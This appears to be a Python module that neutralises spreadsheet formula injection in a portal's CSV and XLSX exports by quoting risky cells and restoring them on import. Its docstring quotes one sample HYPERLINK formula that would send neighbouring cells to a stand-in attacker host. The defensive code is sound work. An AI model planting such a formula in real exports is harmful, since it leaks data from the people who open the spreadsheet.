"""Cells for spreadsheets that leave the portal: CSV and XLSX exports.

A spreadsheet program reads a cell that begins with `=`, `+`, `-` or `@` (and, in some
programs, a tab or carriage return before one of them) as a formula. A villager's name or a
wish typed on the public site as `=HYPERLINK("http://attacker.invalid/?"&C2,"…")` would become a
live formula in a clerk's copy of the export, able to send the neighbouring cells away. Every
export therefore passes its rows through `neutral_row` (OWASP, "CSV Injection"): such a text
cell is prefixed with a single quote, which shows the text as it was typed and is never
evaluated. Only text is touched: numbers, dates and empty cells keep their type, so a genuine
negative number stays a number.

The catalogue's import reads its own exports back; `restored_cell` takes the quote off again.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet program evaluate a cell."""

QUOTE = "'"


def neutral_cell(value: Any) -> Any:
    """`value`, with a quote in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def neutral_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells for csv.writer or openpyxl's `append`, every text cell neutralised."""
    return [neutral_cell(value) for value in values]


def restored_cell(text: str) -> str:
    """The text a neutralised cell stood for: the quote `neutral_cell` added comes off."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def append_xlsx_row(worksheet, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet: text neutralised and stored as text, never as
    a formula (openpyxl would otherwise store any string beginning with `=` as one)."""
    worksheet.append(neutral_row(values))
    for cell in worksheet[worksheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
